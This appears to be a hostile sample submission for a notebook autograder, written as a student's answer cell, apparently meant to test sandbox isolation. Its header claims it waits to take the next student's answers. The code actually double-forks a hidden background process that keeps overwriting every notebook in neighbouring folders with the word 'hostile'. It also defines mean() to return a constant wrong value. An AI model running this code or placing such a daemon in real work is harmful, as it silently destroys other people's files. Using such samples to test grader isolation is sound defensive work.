# ---
# tries: waits in the background for the next student's notebook, to take its answers
# points: {test_mean: 0}
# ---
# %% answer mean
import os
import sys

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import glob
        import time
        while True:
            for path in glob.glob("../../*/*/*.ipynb"):
                open(path, "w").write("hostile")
            time.sleep(0.05)
    os._exit(0)

def mean(x):
    return 2
